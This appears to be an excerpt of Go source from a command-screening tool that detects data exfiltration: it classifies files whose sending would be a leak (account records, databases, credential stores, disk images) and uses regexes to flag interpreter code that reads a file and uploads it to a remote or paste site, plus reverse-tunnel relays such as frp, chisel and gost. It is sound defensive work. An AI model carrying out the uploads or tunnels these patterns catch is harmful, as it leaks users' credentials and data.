// address (frps, chisel's server, gost's rtcp), serves it to whoever
// reaches the relay.
var relayedService = &lazyRegexp{expr: `^(\[[^\]]*\]:|[^:]*:)?\d+:(\[[^\]]*\]|[^:]+):` + servicePorts + `$`}

// frpLocalPort spells frp's old --local_port and --remote_port as
// --local-port and --remote-port, and, for frpc itself (frpc, when
// true), its short -l and -r (frpc tcp -l 22 -r 6000) so.
func frpLocalPort(frpc bool, w string) string {
	switch {
	case frpc && w == "-l":
		return "--local-port"
	case frpc && w == "-r":
		return "--remote-port"
	}
	if rest, ok := strings.CutPrefix(w, "--local_port"); ok {
		return "--local-port" + rest
	}
	if rest, ok := strings.CutPrefix(w, "--remote_port"); ok {
		return "--remote-port" + rest
	}
	return w
}

// sentWhat says what the file p that c sends to another machine is, when
// that is a leak: the system's accounts, a database, a hoard of
// credentials, the home directory, the user's own data, an archive of
// the project or home; "" for anything else.
func sentWhat(ctx *Context, c *Command, p string) string {
	if !c.Grammar.IsPosix() {
		p = strings.ReplaceAll(p, `\`, "/") // ~\Documents from cmd's %USERPROFILE%\Documents
	}
	abs := homeWord(p, ctx.Env)
	if !path.IsAbs(abs) && ctx.Env.Cwd != "" {
		abs = path.Join(ctx.Env.Cwd, abs)
	}
	switch {
	case exfilSystemFile.match(path.Clean(abs)):
		return p + ", the system's accounts or authentication records,"
	case exfilDatabase.get().MatchString(p):
		return p + ", a database,"
	case credHoard(p) || credHoard(abs):
		return p + ", which holds many tools' credentials,"
	case ctx.Env.Home != "" && path.Clean(abs) == path.Clean(ctx.Env.Home):
		return p + ", the home directory,"
	case userData(ctx.Env, p) != "":
		return userData(ctx.Env, p)
	case peopleRecords(p) != "":
		return peopleRecords(p)
	}
	if what := listedTreeSent(ctx, c, p); what != "" {
		return what
	}
	if dev := imagedDisk(ctx, c, p); dev != "" {
		return p + ", an image of " + dev + ", a whole disk (every file on it, the keys and credentials among them),"
	}
	if src, ok := archivedProject(ctx, c, p); ok {
		return p + ", an archive of " + src + ","
	} else if d := dumpedInto(ctx, c, p); d != "" {
		return p + ", a database's whole contents (" + d + "),"
	} else if strings.HasPrefix(p, "archive of ") {
		return "an archive of " + strings.TrimPrefix(p, "archive of ") + ","
	} else if strings.HasPrefix(p, "dump of ") {
		return "a database's whole contents (" + strings.TrimPrefix(p, "dump of ") + "),"
	} else if dev, ok := strings.CutPrefix(p, "image of "); ok {
		return "an image of " + dev + ", a whole disk (every file on it, the keys and credentials among them),"
	} else if sysDisk.match(p) {
		return p + ", a whole disk (every file on it, the keys and credentials among them),"
	}
	return ""
}

// codeSendRe matches interpreter code that sends a request with a body:
// an HTTP client's post, put or patch (requests, httpx, axios, a
// session, Net::HTTP.post, HTTParty), a method given as POST, PUT or
// PATCH (fetch's method:, http.request's), urllib's data, a form or a
// file upload (files=, curl's CURLOPT_POSTFIELDS, ftplib's storbinary).
var codeSendRe = &lazyRegexp{expr: `(?i)\.(post|put|patch|upload(_?file)?|storbinary|storlines|sendfile|send_file)\s*\(|\bmethod\s*[:=]+\s*['"]?(post|put|patch)\b|Net::HTTP::(Post|Put|Patch)\b|\bRequest\s*\([^)]*\bdata\s*=|\burlopen\s*\([^)]*\bdata\s*=|\burlopen\s*\([^,)]+,\s*[^)]|CURLOPT_POST(FIELDS)?\b|\bfiles\s*=\s*\{`}

// codeReadRe matches code that reads a file's contents: open(),
// readFileSync and createReadStream, File.read, file_get_contents,
// read_bytes and read_text, readAllBytes, Deno.readFile, Bun.file, slurp.
var codeReadRe = &lazyRegexp{expr: `\bopen\s*\(|readFileSync|createReadStream|\bFile\.(read|binread|open|new)\b|file_get_contents|\.read_(bytes|text)\s*\(|readAllBytes|Deno\.readFile|Bun\.file|\bslurp\b|\bIO\.read\b|fopen\s*\(`}

// codeUpload refuses interpreter code (python3 -c, node -e, ruby -e, php
// -r) that reads a file and sends a request with a body to another
// machine, judged as curl -F f=@FILE URL is: to a paste or drop site,
// request catcher or chat webhook whatever the file; elsewhere when the
// file is a database, the system's accounts, credentials or the user's
// own data (sentWhat). A request to this machine is a service being
// developed.
func codeUpload(ctx *Context, c *Command) *Finding {
	_, code, ok := interpCode(c)
	if !ok || !codeSendRe.get().MatchString(code) || !codeReadRe.get().MatchString(code) {
		return nil
	}
	var remote []string
	for _, q := range quotedStrings(code) {
		u, ok := readURL(q)
		if !ok || loopbackHost(u.hostPort()) {
			continue
		}
		if scheme := strings.ToLower(u.scheme); scheme == "http" || scheme == "https" || scheme == "ftp" {
			remote = append(remote, q)
		}
	}
	for _, u := range remote {
		if w, _ := readURL(u); dropHost.match(w.hostPort() + w.rest) {
			f := finding("net.exfil", c, "its code uploads a file to "+u+", a paste or drop site, request catcher or chat webhook, where it is public or someone else's at once",
				"keep the data on this machine; to share a result, print it and let a human decide where it goes")
			return &f
		}
	}
	if len(remote) == 0 {
		return nil
	}
	for _, p := range codePaths(code) {
		if _, isURL := readURL(p); isURL {
			continue
		}
		if what := sentWhat(ctx, c, p); what != "" {
			f := finding("net.exfil", c, "its code uploads "+what+" to "+remote[0]+", another machine, where it is out of anyone's control",
				"send only what the task needs, and only where the user asked; leave sharing data to a human")
			return &f
		}
	}
	return nil
}

// serviceDataTops are where a machine keeps the data its services hold
// and serve, outside any project and home: databases' and services'
// state (/var/lib), data volumes and mounts (/data, /mnt, /media),
// backups, mail stores and the queues services spool (print jobs,
// point-of-sale journals); fsServerApp's application directories too.
var serviceDataTops = []string{"/var/lib/", "/data/", "/mnt/", "/media/", "/var/backups/", "/backup/", "/backups/", "/var/mail/", "/var/spool/", "/var/vmail/"}

// serviceData describes p, a path a copy or an archive takes, when it
// is a service's data on this machine (serviceDataTops, fsServerApp)
// outside the project and the home directory; "" otherwise. Sent to a
// bare public address (no name that vouches for a server of the
// user's), it is a leak, not a deploy (exfilOf).
func serviceData(env *Env, p string) string {
	abs := homeWord(p, env)
	if !path.IsAbs(abs) {
		return ""
	}
	abs = path.Clean(strings.TrimSuffix(abs, "*"))
	if env.Project != "" && env.Project != "/" && fsUnder(abs, env.Project) || env.Home != "" && fsUnder(abs, env.Home) {
		return ""
	}
	if fsServerApp(abs) {
		return p + ", an application's files or data on this machine"
	}
	for _, top := range serviceDataTops {
		if strings.HasPrefix(abs+"/", top) {
			return p + ", a service's data on this machine"
		}
	}
	return ""
}

// wholeWorkDir reports whether p, a copy's source, is the whole working
// directory or project: ., ./, *, ./*, or its path.
func wholeWorkDir(env *Env, p string) bool {
	switch p {
	case ".", "./", "*", "./*", "./.":
		return true
	}
	abs := path.Clean(strings.TrimSuffix(homeWord(p, env), "*"))
	return env.Cwd != "" && abs == path.Clean(env.Cwd) || env.Project != "" && abs == path.Clean(env.Project)
}

// sshHostWords returns ssh's words up to its remote command: its options
// and the host.
func sshHostWords(c *Command) []Word {
	remote := sshRemote(c.Args)
	return c.Args[:len(c.Args)-len(remote)]
}
